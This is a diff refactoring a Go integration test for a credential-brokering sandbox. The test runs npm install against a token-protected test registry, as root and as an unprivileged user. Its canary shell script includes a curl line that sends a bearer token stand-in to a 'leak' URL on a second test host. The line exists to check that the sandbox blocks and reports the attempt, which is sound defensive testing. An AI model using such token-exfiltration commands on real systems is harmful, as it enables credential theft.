@@ -2,66 +2,19 @@ package main
 
 import (
 	"bytes"
-	"crypto/ecdsa"
-	"crypto/elliptic"
-	"crypto/rand"
 	"crypto/tls"
-	"crypto/x509"
-	"crypto/x509/pkix"
-	"encoding/pem"
 	"fmt"
-	"io"
-	"math/big"
 	"net"
-	"net/http"
 	"os"
 	"os/exec"
 	"path/filepath"
-	"runtime"
-	"slices"
 	"strings"
 	"sync"
-	"syscall"
 	"testing"
-	"time"
-
-	"github.com/elastic/go-seccomp-bpf/arch"
-	"golang.org/x/sys/unix"
 
 	"github.com/sysprof/sysprof/internal/npmregistry"
 	"github.com/sysprof/sysprof/internal/testutil"
-	"github.com/sysprof/sysprof/policy"
-	"github.com/sysprof/sysprof/report"
 )
-
-// regAddr is the registries' address: a documentation address (TEST-NET-1) on the loopback of
-// a network namespace of the test's own, so that no name resolves to the host's loopback.
-const regAddr = "192.0.2.10"
-
-// testCA returns a CA (PEM) and a certificate it signed for name (and more): the registry's,
-// which the host trusts through SSL_CERT_FILE.
-func testCA(name string, more ...string) (caPEM []byte, leaf tls.Certificate, err error) {
-	caKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
-	if err != nil {
-		return nil, leaf, err
-	}
-	now := time.Now()
-	caT := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "sysprof test registry CA"}, NotBefore: now.Add(-time.Hour),
-		NotAfter: now.Add(time.Hour), IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
-	caDER, err := x509.CreateCertificate(rand.Reader, caT, caT, &caKey.PublicKey, caKey)
-	if err != nil {
-		return nil, leaf, err
-	}
-	ca, _ := x509.ParseCertificate(caDER)
-	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
-	lT := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: name}, DNSNames: append([]string{name}, more...), NotBefore: now.Add(-time.Hour),
-		NotAfter: now.Add(time.Hour), KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
-	der, err := x509.CreateCertificate(rand.Reader, lT, ca, &key.PublicKey, caKey)
-	if err != nil {
-		return nil, leaf, err
-	}
-	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER}), tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, nil
-}
 
 // credsScript is the sandboxed command: npm install with the brokered token, then a canary
 // that looks for the real token (a piece of it, $1: the whole value must not enter the
@@ -81,95 +34,21 @@ curl -sS -m 10 -o /dev/null -H "Authorization: Bearer $S" http://other.test/leak
 curl -sS -m 60 -o /dev/null https://reg.test/ready 2>/dev/null; echo "ready rc=$?"
 `
 
-const credsProfile = `apiVersion: sysprof.dev/v1
-kind: Profile
-metadata: {name: npm-install, command: [npm, install], runs: 1, incomplete: false}
-syscalls:
-  architectures: [x86_64]
-  allow: [%s]
-  args:
-    - {syscall: mprotect, arg: 2, name: prot, mask: PROT_EXEC, values: [PROT_EXEC, PROT_NONE]}
-filesystem:
-  read:
-    - {path: /etc}
-    - {path: /usr}
-    - {path: /proc}
-    - {path: /dev/urandom}
-    - {path: $WORKDIR}
-  write:
-    - {path: /dev/null}
-    - {path: $WORKDIR}
-  exec:
-    - {path: /usr/bin}
-    - {path: /usr/lib}
-  privateTmp: true
-network:
-  connect:
-    - {endpoint: "reg.test:443", proto: tcp}
-    - {endpoint: "other.test:80", proto: tcp}
-credentials:
-  - {file: $HOME/.npmrc, key: "//reg.test/:_authToken", hosts: [reg.test], how: bearer}
-`
-
 // npm install from a token-protected registry (TLS, a test CA the host trusts) with the
 // token brokered: the client succeeds, the canary inside finds no trace of the real token,
 // the stand-in sent to a second allowed host is refused and reported critical, and every use
 // is logged. As root and as an ordinary user.
 func TestCredentialsNpmBrokered(t *testing.T) {
-	testutil.RequireRoot(t)
-	testutil.RequireTool(t, "npm")
-	testutil.RequireTool(t, "curl")
-	testutil.RequireTool(t, "ip")
-	bin, err := sysprofBinary()
-	if err != nil {
-		t.Fatal(err)
-	}
-	errc := make(chan error, 1)
-	// The goroutine's thread enters a network namespace of its own and never leaves it (the
-	// thread ends with the goroutine): the registries listen there, and sysprof is started
-	// from there, so its proxy dials them in that namespace.
-	go func() {
-		runtime.LockOSThread()
-		if err := unix.Unshare(unix.CLONE_NEWNET); err != nil {
-			errc <- testutil.NotAvailable("unshare(CLONE_NEWNET): %v", err)
-			return
-		}
-		errc <- credsInNetns(t, bin)
-	}()
-	if err := <-errc; err != nil {
-		testutil.RequireNoErr(t, "credentials run", err)
-	}
+	brokeredRun(t, "credentials run", credsInNetns, "npm", "curl")
 }
 
-func credsInNetns(t *testing.T, bin string) error {
-	for _, args := range [][]string{{"link", "set", "lo", "up"}, {"addr", "add", regAddr + "/32", "dev", "lo"}} {
-		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
-			return fmt.Errorf("ip %v: %v: %s", args, err, out)
-		}
-	}
-	base, err := os.MkdirTemp("", "sysprof-creds-")
+func credsInNetns(bin string) error {
+	base, caFile, leaf, err := credsBase("sysprof-creds-", "reg.test")
 	if err != nil {
 		return err
 	}
 	defer os.RemoveAll(base)
-	os.Chmod(base, 0o755)
-	caPEM, leaf, err := testCA("reg.test")
-	if err != nil {
-		return err
-	}
-	caFile := filepath.Join(base, "ca.pem")
-	if err := os.WriteFile(caFile, caPEM, 0o644); err != nil {
-		return err
-	}
-	real := "npm_"
-	{
-		b := make([]byte, 36)
-		rand.Read(b)
-		for i := range b {
-			b[i] = "abcdefghijklmnopqrstuvwxyz0123456789"[int(b[i])%36]
-		}
-		real += string(b)
-	}
+	real := "npm_" + randomSecret(36)
 	needle := real[4:20]
 	var mu sync.Mutex
 	var regSaw, otherSaw []string
@@ -189,28 +68,23 @@ func credsInNetns(t *testing.T, bin string) error {
 			}
 		}})
 	defer srv.Close()
-	ln2, err := net.Listen("tcp", regAddr+":80")
+	other, err := serveOther(&mu, &otherSaw)
 	if err != nil {
 		return err
 	}
-	other := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		io.Copy(io.Discard, r.Body)
-		mu.Lock()
-		otherSaw = append(otherSaw, fmt.Sprint(r.Method, " ", r.URL, " ", r.Header))
-		mu.Unlock()
-	})}
-	go other.Serve(ln2)
 	defer other.Close()
 
 	work, home := filepath.Join(base, "work"), filepath.Join(base, "home")
 	os.MkdirAll(work, 0o755)
 	os.MkdirAll(home, 0o755)
-	pub := filepath.Join(base, "sysprof")
-	if b, err := os.ReadFile(bin); err != nil || os.WriteFile(pub, b, 0o755) != nil {
-		return fmt.Errorf("copy sysprof: %v", err)
+	pub, err := publicCopy(bin, base)
+	if err != nil {
+		return err
 	}
 	os.WriteFile(filepath.Join(work, "package.json"), []byte(`{"name":"app","version":"1.0.0","dependencies":{"sysprof-probe":"1.0.0"}}`), 0o644)
-	os.WriteFile(filepath.Join(work, "prof.yaml"), []byte(fmt.Sprintf(credsProfile, allSyscalls())), 0o644)
+	os.WriteFile(filepath.Join(work, "prof.yaml"), []byte(brokerProfile("{name: npm-install, command: [npm, install], runs: 1, incomplete: false}",
+		"  args:\n    - {syscall: mprotect, arg: 2, name: prot, mask: PROT_EXEC, values: [PROT_EXEC, PROT_NONE]}\n",
+		[]string{"reg.test:443", "other.test:80"}, []string{`{file: $HOME/.npmrc, key: "//reg.test/:_authToken", hosts: [reg.test], how: bearer}`})), 0o644)
 
 	var errs []string
 	for _, nobody := range []bool{false, true} {
@@ -227,19 +101,15 @@ func credsInNetns(t *testing.T, bin string) error {
 		}
 		os.WriteFile(filepath.Join(home, ".npmrc"), []byte(npmrc), 0o600)
 		// The report (which names the canary's argument) is written outside the work tree.
-		repDir := filepath.Join(base, fmt.Sprintf("rep-%v", nobody))
-		os.Mkdir(repDir, 0o777)
-		os.Chmod(repDir, 0o777)
-		repFile := filepath.Join(repDir, "rep.json")
+		repFile := reportPath(base, fmt.Sprintf("rep-%v", nobody))
 		cmd := exec.Command(pub, "enforce", "-p", "prof.yaml", "--report", repFile,
 			"--resolve", "reg.test="+regAddr, "--resolve", "other.test="+regAddr, "--", "sh", "-c", credsScript, "sh", needle)
 		cmd.Dir = work
 		cmd.Env = append(os.Environ(), "HOME="+home, "SSL_CERT_FILE="+caFile, tokenEnv)
 		if nobody {
-			if out, err := exec.Command("chown", "-R", "65534:65534", work, home).CombinedOutput(); err != nil {
-				return fmt.Errorf("chown: %v %s", err, out)
+			if err := asNobody(cmd, work, home); err != nil {
+				return err
 			}
-			cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
 		}
 		// While the command waits for its GET /ready, the host looks at the processes of the
 		// sandbox: sysprof's children (the init stage, PID 1 inside) and theirs must not hold
@@ -267,14 +137,7 @@ func credsInNetns(t *testing.T, bin string) error {
 			fail("enforce: %v", err)
 			continue
 		}
-		lines := map[string]string{}
-		for _, l := range strings.Split(out, "\n") {
-			if k, v, ok := strings.Cut(l, "="); ok && !strings.Contains(k, ":") {
-				lines[k] = v
-			} else if k, v, ok := strings.Cut(l, ": "); ok {
-				lines[k] = strings.TrimSpace(v)
-			}
-		}
+		lines := canaryLines(out)
 		standIn := lines["standin"]
 		switch {
 		case lines["npm rc"] != "0":
@@ -302,21 +165,14 @@ func credsInNetns(t *testing.T, bin string) error {
 		if standIn != "" && strings.Contains(oth, standIn) {
 			fail("other.test saw the stand-in:\n%s", oth)
 		}
-		data, err := os.ReadFile(repFile)
+		rep, data, err := readReportFile(repFile)
 		if err != nil {
-			fail("report: %v", err)
+			fail("%v", err)
 			continue
 		}
-		rep, err := report.Parse(data)
-		if err != nil || rep == nil {
-			fail("report: %v", err)
-			continue
-		}
-		crit := false
+		crit := standInDenied(rep, "$HOME/.npmrc //reg.test/:_authToken")
 		for _, d := range rep.Denials {
-			if d.Risk == report.RiskCritical && strings.Contains(d.What, "tried to send the stand-in of $HOME/.npmrc //reg.test/:_authToken") || strings.Contains(d.What, "stand-in") && strings.Contains(d.What, "to other.test") {
-				crit = true
-			}
+			crit = crit || strings.Contains(d.What, "stand-in") && strings.Contains(d.What, "to other.test")
 		}
 		if !crit {
 			fail("no critical denial for the stand-in sent to other.test: %+v", rep.Denials)
@@ -338,19 +194,6 @@ func credsInNetns(t *testing.T, bin string) error {
 		return fmt.Errorf("%s", strings.Join(errs, "\n\n"))
 	}
 	return nil
-}
-
-// allSyscalls lists every x86_64 syscall that is not privileged (seccomp is not what this
-// tests), as a YAML flow list.
-func allSyscalls() string {
-	var out []string
-	for name := range arch.X86_64.SyscallNames {
-		if policy.PrivilegedSyscall(name) == "" {
-			out = append(out, "{name: "+name+"}")
-		}
-	}
-	slices.Sort(out)
-	return strings.Join(out, ", ")
 }
 
 // learn finds the flow (node reads ~/.npmrc, whose token is scoped to the registry it then
@@ -429,28 +272,4 @@ func TestCredentialsNpmLearnedLoopback(t *testing.T) {
 	if len(rep.CredentialUses) == 0 || rep.CredentialUses[0].Status != 200 {
 		t.Errorf("uses: %+v\n%s", rep.CredentialUses, out)
 	}
-}
-
-// environsBelow lists the descendants of pid (host pids, read as root from the host) whose
-// environment holds needle.
-func environsBelow(pid int, needle string) string {
-	var found []string
-	var walk func(int)
-	walk = func(p int) {
-		tasks, _ := os.ReadDir(fmt.Sprintf("/proc/%d/task", p))
-		for _, t := range tasks {
-			kids, _ := os.ReadFile(fmt.Sprintf("/proc/%d/task/%s/children", p, t.Name()))
-			for _, k := range strings.Fields(string(kids)) {
-				var c int
-				fmt.Sscan(k, &c)
-				if env, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", c)); err == nil && strings.Contains(string(env), needle) {
-					exe, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", c))
-					found = append(found, fmt.Sprintf("pid %d (%s)", c, exe))
-				}
-				walk(c)
-			}
-		}
-	}
-	walk(pid)
-	return strings.Join(found, ", ")
 }
